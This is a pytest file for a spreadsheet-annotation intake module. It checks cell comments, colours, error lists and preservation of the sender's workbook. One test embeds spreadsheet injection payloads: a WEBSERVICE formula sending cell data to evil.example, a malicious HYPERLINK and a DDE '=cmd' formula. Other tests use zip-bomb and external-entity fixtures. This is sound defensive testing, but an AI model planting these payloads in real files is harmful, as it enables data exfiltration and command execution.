"""The annotated workbook: problems at their cells, the sender's own workbook otherwise as it was."""

from __future__ import annotations

import io
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill, Protection
from openpyxl.worksheet.datavalidation import DataValidation

from monitor.intake import confined
from monitor.intake.annotated import AnnotateError, Remark, annotate
from monitor.intake.annotation_list import COLOURS
from monitor.intake.problems import FileProblem
from tests.intake.desk import ReadingDesk, as_csv, codes, row
from tests.intake.hostile import hostile_files
from tests.intake.workbooks import Cell, SheetPart, formula, pack, parts, sheet_xml, workbook

HEAD = ["指标编码", "地区代码", "报告期", "数值", "备注"]


def bytes_of(book: Any) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def senders_book() -> Any:
    """A workbook as a careful sender makes it: title, formats, formulas, validation, protection, a second sheet."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "数据"
    sheet["A1"] = "2023年医疗保障主要指标"
    sheet.merge_cells("A1:E1")
    for column, label in enumerate(HEAD, start=1):
        sheet.cell(3, column, label).font = Font(bold=True, color="00FF0000")
    sheet.append(["enrolment_rate", "110000", "2023", 96.2, "=SUM(D4:D5)"])
    sheet.append(["fund_income", "110000", "2023", "九十六", None])
    sheet["D4"].number_format = "0.00"
    sheet["D5"].fill = PatternFill("solid", start_color="FF00FF00", end_color="FF00FF00")
    sheet["A5"].comment = Comment("填表人：请核对", "张三")
    note = sheet["E5"]
    note.value, note.data_type = "=1+1", "s"
    rule = DataValidation(type="list", formula1='"2023,2024"')
    rule.add("C4:C99")
    sheet.add_data_validation(rule)
    for cell in ("A4", "A5", "B4", "B5"):
        sheet[cell].protection = Protection(locked=True)
    sheet.protection.sheet = True
    sheet.protection.password = "x"
    other = book.create_sheet("合计")
    other["A1"] = "=SUM('数据'!D4:D5)"
    other["A2"] = 0.5
    other["A2"].number_format = "0.0%"
    return book


def problem(row: int | None, column: str | None, severity: Any = "error", message: str = "不是数字") -> FileProblem:
    return FileProblem("a.xlsx", "数据", row, column, "some_code", severity, message, f"en {message}", "九十六")


def annotated(
    desk: ReadingDesk,
    content: bytes | str,
    problems: Sequence[FileProblem],
    remarks: Sequence[Remark] = (),
    *,
    name: str = "a.xlsx",
    language: Any = "zh",
    **options: Any,
) -> Any:
    path = desk.path(content, name)
    target = path.with_name("out.xlsx")
    annotate(path, problems, remarks, language=language, target=target, **options)
    assert sorted(entry.name for entry in path.parent.iterdir()) == sorted([name, "out.xlsx"])
    return openpyxl.load_workbook(target)


def comments(sheet: Any) -> dict[str, str]:
    return {cell.coordinate: cell.comment.text for line in sheet.iter_rows() for cell in line if cell.comment}


def colour(cell: Any) -> str:
    return str(cell.fill.start_color.rgb)[-6:] if cell.fill.fill_type == "solid" else ""


def listed(book: Any) -> list[tuple[Any, ...]]:
    return list(book.worksheets[0].iter_rows(min_row=5, values_only=True))


@pytest.mark.child_process
def test_each_problem_stands_at_its_cell_in_colour_and_word(desk: ReadingDesk) -> None:
    found = [problem(5, "数值"), problem(4, "备注", "query", "请说明"), problem(4, "报告期", "warning", "已改")]
    book = annotated(desk, bytes_of(senders_book()), found)
    assert book.sheetnames == ["差错清单", "数据", "合计"]
    sheet = book["数据"]
    assert set(comments(sheet)) == {"D5", "E4", "C4", "A5"}
    assert "错误（强制性）：不是数字" in comments(sheet)["D5"]
    assert "核实性（须说明）：请说明" in comments(sheet)["E4"]
    assert "提醒：已改" in comments(sheet)["C4"]
    assert [colour(sheet[cell]) for cell in ("D5", "E4", "C4")] == [
        COLOURS["error"], COLOURS["query"], COLOURS["warning"],
    ]  # fmt: skip
    assert [line[1:] for line in listed(book)] == [
        ("数据!D5（数值）", "错误（强制性）", "不是数字", "「九十六」"),
        ("数据!E4（备注）", "核实性（须说明）", "请说明", "「九十六」"),
        ("数据!C4（报告期）", "提醒", "已改", "「九十六」"),
    ]
    assert book.worksheets[0]["B5"].hyperlink.location == "'数据'!D5"
    assert book.active.title == "差错清单"


def test_the_senders_workbook_stays_as_it_was(desk: ReadingDesk) -> None:
    before = senders_book()
    book = annotated(desk, bytes_of(before), [problem(5, "数值")])
    for sheet in before.worksheets:
        after = book[sheet.title]
        for line in sheet.iter_rows():
            for cell in line:
                now = after[cell.coordinate]
                assert (now.value, now.data_type, now.number_format) == (cell.value, cell.data_type, cell.number_format)
                assert repr(now.font) == repr(cell.font) and repr(now.protection) == repr(cell.protection)
                if cell.coordinate != "D5":
                    assert colour(now) == colour(cell)
    sheet = book["数据"]
    assert sheet["E4"].data_type == "f" and sheet["E5"].data_type == "s" and sheet["E5"].value == "=1+1"
    assert book["合计"]["A1"].value == "=SUM('数据'!D4:D5)"
    assert [str(rule.sqref) for rule in sheet.data_validations.dataValidation] == ["C4:C99"]
    assert sheet.protection.sheet and sheet["A4"].protection.locked
    assert [str(area) for area in sheet.merged_cells.ranges] == ["A1:E1"]
    assert comments(sheet)["A5"] == "填表人：请核对"


@pytest.mark.child_process
def test_formulas_keep_their_saved_results(desk: ReadingDesk) -> None:
    """A workbook that comes back as it went out says the same: nothing had to calculate it."""
    rows = [
        [*HEAD[:4], "说明"],
        ["enrolment_rate", "110000", "2023", formula("90+6.25", "96.25"), Cell("<f>1=1</f><v>1</v>", ' t="b"')],
        ["fund_income", "110000", "2023", formula("1/3", "0.33333333333333331"), None],
        ["strict_share", "110000", "2023", "x", Cell("<f>A1&amp;&quot;&lt;&quot;</f><v>指标&lt;</v>", ' t="str"')],
    ]
    path = desk.path(workbook(rows), "a.xlsx")
    before = desk.read_path(path)
    target = path.with_name("out.xlsx")
    annotate(path, before.problems, language="zh", target=target)
    after = desk.read_path(target)
    shown = [(one.row, one.column, one.code, one.text) for one in before.problems]
    assert [(one.row, one.column, one.code, one.text) for one in after.problems] == shown
    values = openpyxl.load_workbook(target, data_only=True)["数据"]
    assert [values[cell].value for cell in ("D2", "E2", "D3", "E4")] == [96.25, True, 0.3333333333333333, "指标<"]
    assert openpyxl.load_workbook(target)["数据"]["D2"].value == "=90+6.25"


def test_ours_follows_the_senders_own_comment(desk: ReadingDesk) -> None:
    text = comments(annotated(desk, bytes_of(senders_book()), [problem(5, "指标编码")])["数据"])["A5"]
    assert text.startswith("填表人：请核对\n\n【核对结果】\n错误")


def test_several_problems_of_a_cell_share_its_comment_and_the_worst_colours_it(desk: ReadingDesk) -> None:
    found = [problem(5, "数值", "warning", "甲"), problem(5, "数值", "error", "乙"), problem(5, "数值", "query", "丙")]
    sheet = annotated(desk, bytes_of(senders_book()), found)["数据"]
    assert all(message in comments(sheet)["D5"] for message in "甲乙丙")
    assert colour(sheet["D5"]) == COLOURS["error"]


def test_what_has_no_cell_goes_to_the_list_or_to_its_rows_first_cell(desk: ReadingDesk) -> None:
    found = [problem(None, None, message="整个"), problem(4, None, message="整行"), problem(3, "value", message="缺列")]
    book = annotated(desk, bytes_of(senders_book()), found)
    assert set(comments(book["数据"])) == {"A3", "A4", "A5"}
    assert [line[1] for line in listed(book)] == ["整个文件", "数据!A4", "数据!A3（value）"]


def test_a_merged_cell_is_marked_at_its_first(desk: ReadingDesk) -> None:
    sheet = annotated(desk, bytes_of(senders_book()), [problem(1, "报告期")])["数据"]
    assert "A1" in comments(sheet)


def test_reviewers_remarks_stand_at_the_figure(desk: ReadingDesk) -> None:
    remarks = [
        Remark(4, None, "enrolment_rate", "与年报不符"),
        Remark(5, "备注", None, "请写明口径"),
        Remark(None, None, "fund_income", "请核对单位"),
        Remark(None, None, "drug_platform_share", "漏报"),
        Remark(None, None, None, "整体偏低"),
    ]
    book = annotated(desk, bytes_of(senders_book()), [], remarks)
    found = comments(book["数据"])
    assert "审核意见：与年报不符" in found["D4"] and "请写明口径" in found["E5"] and "请核对单位" in found["D5"]
    assert [line[3] for line in listed(book)] == [remark.text for remark in remarks]
    assert [line[1] for line in listed(book)][3:] == ["整个文件（drug_platform_share）", "整个文件"]


def test_a_remark_on_a_rate_stands_at_the_parts_that_were_sent(desk: ReadingDesk) -> None:
    text = "indicator_id,region_code,period,value,numerator,denominator\nenrolment_rate,110000,2023,,8000,8200\n"
    book = annotated(desk, text, [], [Remark(None, None, "enrolment_rate", "请核对")], name="a.csv")
    assert set(comments(book["数据"])) == {"E2"}


def test_english_is_spoken_when_asked(desk: ReadingDesk) -> None:
    book = annotated(desk, bytes_of(senders_book()), [problem(5, "数值")], language="en", problem_count=300)
    assert book.sheetnames[0] == "Error list"
    assert "Error (blocking)：en 不是数字" in comments(book["数据"])["D5"]
    assert book.worksheets[0]["A3"].value == "300 in all, the first 1 are listed."


def test_a_text_file_becomes_a_workbook_of_its_rows(desk: ReadingDesk) -> None:
    text = "标题,,,,\n\n指标编码,地区代码,报告期,数值,备注\nenrolment_rate,011,2023,1E5,=1+1\nx,,,\x01,\n"
    book = annotated(desk, text, [problem(4, "数值")], name="a.csv")
    sheet = book["数据"]
    assert [[cell.value for cell in line] for line in sheet.iter_rows()] == [
        ["标题", None, None, None, None],
        [None] * 5,
        HEAD,
        ["enrolment_rate", "011", "2023", "1E5", "=1+1"],
        ["x", None, None, "\\u0001", None],
    ]
    assert {cell.data_type for line in sheet.iter_rows() for cell in line if cell.value} == {"s"}
    assert set(comments(sheet)) == {"D4"}


def test_another_reader_gets_no_formula_link_or_name_of_the_senders(desk: ReadingDesk) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEAD[:4])
    sheet.append(["enrolment_rate", "110000", "2023", '=WEBSERVICE("http://evil.example/"&A2)'])
    sheet["F2"] = '=HYPERLINK("http://evil.example/","x")'
    sheet["F3"] = "=cmd|'/c calc'!A1"
    sheet["B2"].hyperlink = "http://evil.example/"
    book.create_sheet("第二页")["A1"] = "=1+1"
    problems = [problem(2, HEAD[3])]
    own = annotated(desk, bytes_of(book), problems)
    other = annotated(desk, bytes_of(book), problems, as_texts=True, name="b.xlsx")
    assert "f" in {cell.data_type for one in own for line in one for cell in line}
    cells = [cell for one in other for line in one for cell in line]
    assert "f" not in {cell.data_type for cell in cells}
    assert [cell.hyperlink for cell in cells if cell.hyperlink and cell.hyperlink.target] == []
    assert "第二页" not in other.sheetnames and any(
        "不是数字" in text for text in comments(other.worksheets[1]).values()
    )


def test_every_problem_of_a_broken_file_finds_its_cell(desk: ReadingDesk) -> None:
    path = desk.path(
        as_csv([row(value="九十六"), row(region_code="11OOOO"), row(period="二〇二四"), row(period="2022")])
    )
    problems = desk.read_path(path).problems
    target = path.with_name("out.xlsx")
    annotate(path, problems, language="zh", target=target)
    sheet = openpyxl.load_workbook(target)["数据"]
    for one in problems:
        column = [cell.value for cell in sheet[1]].index(one.column) + 1
        cell = sheet.cell(one.row, column)
        assert cell.value == one.text and one.zh in cell.comment.text


def test_the_mended_workbook_is_read_and_marked_anew(desk: ReadingDesk) -> None:
    """Sent, annotated, mended in the annotated workbook, sent again: the list and old marks are not in the way."""
    book = openpyxl.Workbook()
    book.active.append(HEAD[:4])
    book.active.append(["enrolment_rate", "110000", "2023", "九十六"])
    first = desk.path(bytes_of(book), "a.xlsx")
    problems = desk.read_path(first).problems
    once = first.with_name("once.xlsx")
    annotate(first, problems, language="zh", target=once)
    assert codes(desk.read_path(once)) == codes(desk.read_path(first))
    mended = openpyxl.load_workbook(once)
    mended["Sheet"]["D2"] = 96.2
    mended["Sheet"]["A2"] = "无此指标"
    mended.save(once)
    twice = first.with_name("twice.xlsx")
    annotate(once, desk.read_path(once).problems, language="en", target=twice)
    result = openpyxl.load_workbook(twice)
    assert result.sheetnames == ["Error list", "Sheet"]
    assert set(comments(result["Sheet"])) == {"A2"} and colour(result["Sheet"]["D2"]) == ""
    result["Sheet"]["A2"] = "enrolment_rate"
    result.save(twice)
    assert not desk.read_path(twice).blocked


def test_a_file_that_is_no_table_is_refused_with_its_reason(desk: ReadingDesk) -> None:
    files = hostile_files()
    for name in ("zip bomb of rows", "stray cell: corner", "DTD: external entity", "a PDF named .csv", "no header"):
        file = files[name]
        path = desk.path(file.content, file.file)
        with pytest.raises(AnnotateError) as refusal:
            annotate(path, [], language="zh", target=path.with_name("out.xlsx"))
        reason = next(one for one in desk.read_path(path).problems if one.code == file.code)
        assert reason.zh in refusal.value.zh and reason.en in refusal.value.en
        assert [entry.name for entry in path.parent.iterdir()] == [file.file]


def test_two_sheets_of_figures_are_refused_as_the_reader_refuses_them(desk: ReadingDesk) -> None:
    sheet = sheet_xml([HEAD, ["a", "110000", "2023", 1]])
    path = desk.path(pack(parts([SheetPart("甲", sheet), SheetPart("乙", sheet)])), "a.xlsx")
    with pytest.raises(AnnotateError, match="甲、乙"):
        annotate(path, [], language="zh", target=path.with_name("out.xlsx"))


def test_more_cells_than_a_workbook_can_be_held_are_refused(desk: ReadingDesk) -> None:
    path = desk.path(as_csv([row()]) + "x,y,z,1\n" * 125_001)
    with pytest.raises(AnnotateError, match="500000"):
        annotate(path, [], language="zh", target=path.with_name("out.xlsx"))


def test_a_workbook_that_cannot_be_written_again_becomes_one_of_its_rows(desk: ReadingDesk) -> None:
    contents = parts([SheetPart("上报", sheet_xml([["标题"], HEAD, ["a", "110000", "2023", 1.5, "=1"]]))])
    contents["xl/styles.xml"] = contents["xl/styles.xml"].replace(
        b"<cellXfs", b"<fonts><font><sz val='x'/></font></fonts><cellXfs"
    )
    book = annotated(desk, pack(contents), [problem(3, "数值")], [Remark(None, None, "a", "请核对")])
    assert book.sheetnames == ["差错清单", "上报"] and "没有原来的格式" in book.worksheets[0]["A3"].value
    sheet = book["上报"]
    assert [cell.value for cell in sheet[3]] == ["a", "110000", "2023", "1.5", "=1"]
    assert sheet["E3"].data_type == "s" and set(comments(sheet)) == {"D3"}


def test_a_child_that_dies_is_told(desk: ReadingDesk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(confined, "CHILD", ("-I", "-c", "import os; os.abort()"))
    path = desk.path(as_csv([row()]))
    with pytest.raises(AnnotateError, match="读取程序异常中止"):
        annotate(path, [], language="zh", target=path.with_name("out.xlsx"))
    assert [entry.name for entry in path.parent.iterdir()] == [path.name]


TEXTS = st.text(max_size=40) | st.sampled_from(["=1+1", "+1", "-1", "@x", "\t=1", '=HYPERLINK("http://x")', "_x0041_"])


@settings(max_examples=8)
@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=20))
def test_no_text_becomes_a_formula_and_every_workbook_opens(
    desk: ReadingDesk, tmp_path_factory: pytest.TempPathFactory, texts: list[tuple[str, str]]
) -> None:
    lines = [row(note=note, source=source) for note, source in texts]
    text = as_csv(lines, ("indicator_id", "region_code", "period", "value", "note", "source"))
    path: Path = desk.path(text.encode("utf-8", "replace"))
    found = [
        FileProblem("f", None, number, "note", "c", "error", note or "x", source or "x", note)
        for number, (note, source) in enumerate(texts, start=2)
    ]
    target = path.with_name("out.xlsx")
    try:
        annotate(path, found, [Remark(2, None, None, texts[0][1])], language="zh", target=target)
    except AnnotateError as refusal:
        assert "读" in refusal.zh or "编码" in refusal.zh or "UTF" in refusal.zh
        return
    book = openpyxl.load_workbook(target)
    assert not [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
    assert not [cell for line in book["数据"].iter_rows() for cell in line if cell.hyperlink]
